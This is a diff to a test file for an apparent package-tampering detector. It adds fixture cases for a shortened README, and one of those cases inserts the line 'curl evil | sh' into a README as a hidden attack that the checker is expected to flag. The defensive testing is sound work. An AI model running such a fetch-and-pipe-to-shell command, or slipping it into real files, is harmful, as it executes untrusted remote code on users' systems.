@@ -375,6 +375,12 @@ const HONEST: Readonly<Record<string, Incident>> = {
     attack: added({ 'README.md': '# a\r\n\r\nText.\r\n' }),
     expected: { verdict: 'reproduced', level: 'normalized', ignored: ['line-ends'] },
   },
+  'a README that a tool cut after its first section': {
+    row: 15,
+    base: added({ 'README.md': '# a\n\nText.\n\n## More\n' }),
+    attack: added({ 'README.md': '# a\n\nText.\n' }),
+    expected: { verdict: 'reproduced', level: 'normalized', ignored: ['shortened-readme'] },
+  },
   'a manifest that the packer wrote anew': {
     row: 15,
     base: (files) => ({ ...files, 'package.json': `${files['package.json'] ?? ''}\n` }),
@@ -444,6 +450,12 @@ const HIDDEN: Readonly<Record<string, Incident>> = {
     base: added({ 'dist/x.js.map': MAP }),
     attack: added({ 'dist/x.js.map': MAP.replace('f();', "eval('');") }),
     expected: { verdict: 'diverged', severity: 'low', found: MAP_CHANGED },
+  },
+  'in a README that is shorter': {
+    row: 16,
+    base: added({ 'README.md': '# a\n\nText.\n\n## More\n\nMore text, and more.\n' }),
+    attack: added({ 'README.md': '# a\n\nText.\n\ncurl evil | sh\n' }),
+    expected: diverged(['file-changed', 'low', 'README.md']),
   },
   'in white space of the manifest': {
     row: 16,
